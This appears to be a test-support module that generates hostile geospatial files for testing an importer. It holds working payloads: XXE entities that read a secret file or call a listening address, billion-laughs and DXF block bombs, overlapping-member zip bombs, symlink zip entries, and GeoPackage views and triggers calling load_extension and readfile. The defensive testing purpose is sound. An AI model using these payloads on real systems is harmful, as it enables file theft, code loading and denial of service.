"""Map files made to do harm: what each maker writes says its name.

``bait`` is what a file would give away or call if it were believed: the path of a secret
on the disk and the address of a machine that listens.
"""

from __future__ import annotations

import json
import sqlite3
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import shapely

from tests.support.shapefiles import PARTS, parcels, zip_members, zip_shapefile

DEEP = 3_000
PLACE = "105.97 10.25"


@dataclass(frozen=True)
class Bait:
    """A file with a secret, and an address at which somebody notes who calls."""

    secret: Path
    address: str


Maker = Callable[[Path, Bait], Path]


def text_file(name: str, content: str | bytes) -> Maker:
    """A file of that name; {secret} and {address} stand for the bait."""

    def make(folder: Path, bait: Bait) -> Path:
        path = folder / name
        data = content if isinstance(content, bytes) else content.encode()
        for word, value in (("secret", bait.secret), ("address", bait.address)):
            data = data.replace(b"{%s}" % word.encode(), str(value).encode())
        path.write_bytes(data)
        return path

    return make


# ---- archives ----


def good_members(folder: Path) -> dict[str, bytes]:
    """The files of a sound shapefile."""
    path = zip_shapefile(parcels(4), folder / "good.zip")
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def named(pattern: str) -> Maker:
    """A sound shapefile whose members are called so."""

    def make(folder: Path, _bait: Bait) -> Path:
        members = good_members(folder)
        renamed = {pattern + Path(name).suffix: data for name, data in members.items()}
        return zip_members(folder / "x.zip", renamed)

    return make


def marked(mode: int) -> Maker:
    """A sound shapefile whose .shp says it is a link, a pipe, a device."""

    def make(folder: Path, bait: Bait) -> Path:
        path = folder / "x.zip"
        with zipfile.ZipFile(path, "w") as archive:
            for name, data in good_members(folder).items():
                member = zipfile.ZipInfo(name)
                is_it = name.endswith(".shp")
                member.external_attr = (mode if is_it else 0o100644) << 16
                archive.writestr(member, str(bait.secret) if is_it else data)
        return path

    return make


def archive_in_archive(folder: Path, _bait: Bait) -> Path:
    inner = zip_shapefile(parcels(2), folder / "inner.zip").read_bytes()
    return zip_members(folder / "x.zip", {"inner.zip": inner})


def many_members(count: int) -> Maker:
    """A directory of very many entries, all of the same few bytes."""

    def make(folder: Path, _bait: Bait) -> Path:
        path = folder / "x.zip"
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("x.shp", b"")
            entry = archive.filelist[0]
            archive.filelist += [entry] * count
        return path

    return make


def overlapping(folder: Path, _bait: Bait) -> Path:
    """Names that all mean the same bytes: small here, 600 times as much unpacked."""
    path = folder / "x.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("a0/x.shp", bytes(2 << 20))
        first = archive.filelist[0]
        for number in range(1, 600):
            again = zipfile.ZipInfo(f"a{number}/x.shp")
            for name in ("compress_type", "CRC", "compress_size", "file_size"):
                setattr(again, name, getattr(first, name))
            again.header_offset = first.header_offset
            archive.filelist.append(again)
    return path


# ---- tables and databases ----

GEOPACKAGE = """
    PRAGMA application_id = 0x47504B47; PRAGMA user_version = 10300;
    CREATE TABLE gpkg_spatial_ref_sys (srs_name, srs_id INTEGER PRIMARY KEY,
      organization, organization_coordsys_id, definition, description);
    INSERT INTO gpkg_spatial_ref_sys VALUES
      ('WGS 84', 4326, 'EPSG', 4326, 'GEOGCS["WGS 84"]', '');
    CREATE TABLE gpkg_contents (table_name PRIMARY KEY, data_type, identifier,
      description, last_change, min_x, min_y, max_x, max_y, srs_id);
    CREATE TABLE gpkg_geometry_columns (table_name, column_name,
      geometry_type_name, srs_id, z, m);
    INSERT INTO gpkg_contents VALUES
      ('evil', 'features', 'evil', '', '', 0, 0, 1, 1, 4326);
    INSERT INTO gpkg_geometry_columns VALUES ('evil', 'geom', 'POINT', 4326, 0, 0);
"""
VIEW = "CREATE VIEW evil AS SELECT 1 AS fid, NULL AS geom, "
TABLE = "CREATE TABLE evil (fid INTEGER PRIMARY KEY, geom BLOB, a TEXT);"
ENDLESS = """CREATE VIEW evil AS WITH RECURSIVE n(i) AS
    (SELECT 1 UNION ALL SELECT i + 1 FROM n)
    SELECT i AS fid, NULL AS geom FROM n WHERE i < 0;"""
BIG_VALUE = f"{VIEW} zeroblob(1000000000) AS a;"
LOADS_CODE = f"{VIEW} load_extension('{{secret}}') AS a;"
READS_FILE = f"{VIEW} readfile('{{secret}}') AS a;"
TRIGGER = f"""{TABLE} CREATE TRIGGER t AFTER INSERT ON gpkg_contents BEGIN
    SELECT load_extension('{{secret}}'); END;"""


def geopackage(statements: str) -> Maker:
    """A GeoPackage in which the layer ``evil`` is made by ``statements``."""

    def make(folder: Path, bait: Bait) -> Path:
        path = folder / "x.gpkg"
        with sqlite3.connect(path) as db:
            db.executescript(GEOPACKAGE)
            db.executescript(statements.replace("{secret}", str(bait.secret)))
        return path

    return make


def csv_of(*outlines: str, head: str = "id;wkt") -> Maker:
    """A table of shapes, good ones first."""
    good = [f"{n};POINT({PLACE}{n})" for n in range(9)]
    rows = [head, *good, *(f"{n};{one}" for n, one in enumerate(outlines, 9))]
    return text_file("x.csv", "\n".join(rows) + "\n")


def nested_wkt(depth: int = DEEP) -> str:
    return "GEOMETRYCOLLECTION(" * depth + f"POINT({PLACE})" + ")" * depth


def nested_wkb(depth: int = DEEP) -> str:
    point = shapely.to_wkb(shapely.Point(105.9, 10.2), byte_order=1, hex=True)
    return "010700000001000000" * depth + point


# ---- GeoJSON ----


def geojson(coordinates: str, **properties: object) -> Maker:
    """One point with these coordinates, written as they stand, beside a good one."""
    facts = json.dumps(properties)
    point = '{"type":"Feature","properties":%s,"geometry":{"type":"Point","coordinates":%s}}'
    features = ",".join(
        (point % (facts, coordinates), point % ("{}", "[105.97,10.25]"))
    )
    return text_file(
        "x.geojson", f'{{"type":"FeatureCollection","features":[{features}]}}'
    )


def nested_geojson(depth: int) -> Maker:
    return geojson("[" * depth + "]" * depth)


# ---- XML ----

ENTITIES = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 11))
LAUGHS = f"<!DOCTYPE x [<!ENTITY a0 'haha'>{ENTITIES}]>"
READS = '<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>'
CALLS = (
    '<!DOCTYPE x [<!ENTITY e SYSTEM "{address}"> <!ENTITY % p SYSTEM "{address}"> %p;]>'
)


def kml(doctype: str, entity: str, more: str = "") -> Maker:
    """A placemark whose name is an entity."""
    return text_file(
        "x.kml",
        f'<?xml version="1.0"?>{doctype}<kml xmlns="http://www.opengis.net/kml/2.2">'
        f"<Document>{more}<Placemark><name>{entity}</name><Point><coordinates>"
        "105.97,10.25</coordinates></Point></Placemark></Document></kml>",
    )


def gml(doctype: str, entity: str, attributes: str = "", member: str = "") -> Maker:
    """A feature whose name is an entity, its schema perhaps elsewhere."""
    return text_file(
        "x.gml",
        f'<?xml version="1.0"?>{doctype}<FeatureCollection {attributes} '
        'xmlns="http://www.opengis.net/wfs" xmlns:gml="http://www.opengis.net/gml" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><gml:featureMember>'
        f"<thua><name>{entity}</name>{member}<gml:pointProperty><gml:Point>"
        "<gml:coordinates>105.97,10.25</gml:coordinates></gml:Point>"
        "</gml:pointProperty></thua></gml:featureMember></FeatureCollection>",
    )


# ---- shapefiles that lie ----


def patched(part: str, *changes: tuple[int, str, int]) -> Maker:
    """A shapefile of which ``part`` has other numbers at some places."""

    def make(folder: Path, _bait: Bait) -> Path:
        whole = good_members(folder)
        data = bytearray(whole[f"thua_dat{part}"])
        for place, form, value in changes:
            struct.pack_into(form, data, place, value)
        assert part in PARTS
        return zip_shapefile(parcels(4), folder / "x.zip", replaced={part: bytes(data)})

    return make


# ---- drawings ----

DXF_HEAD = "0 SECTION 2 HEADER 9 $ACADVER 1 AC1015 0 ENDSEC 0 SECTION 2 TABLES 0 ENDSEC"
AT_ZERO = "10 0 20 0"


def drawing(blocks: str, shown: str) -> Maker:
    """A DXF with these blocks, of which one is shown."""
    words = (
        f"{DXF_HEAD} 0 SECTION 2 BLOCKS {blocks} 0 ENDSEC 0 SECTION 2 ENTITIES "
        f"0 INSERT 8 0 2 {shown} {AT_ZERO} 0 ENDSEC 0 EOF "
    )
    return text_file("x.dxf", words.replace(" ", "\n"))


def block_bomb(levels: int = 12, each: int = 10) -> Maker:
    """Every block holds ten of the one before: 10^11 points in 8 kB."""
    blocks = [f"0 BLOCK 2 B0 {AT_ZERO} 0 POINT 8 0 10 1 20 1 0 ENDBLK"]
    for level in range(1, levels):
        inner = f" 0 INSERT 8 0 2 B{level - 1} {AT_ZERO}" * each
        blocks.append(f"0 BLOCK 2 B{level} {AT_ZERO}{inner} 0 ENDBLK")
    return drawing(" ".join(blocks), f"B{levels - 1}")


def block_of_itself() -> Maker:
    """A block that holds itself."""
    insert = f"0 INSERT 8 0 2 B {AT_ZERO}"
    return drawing(f"0 BLOCK 2 B {AT_ZERO} {insert} 0 ENDBLK", "B")
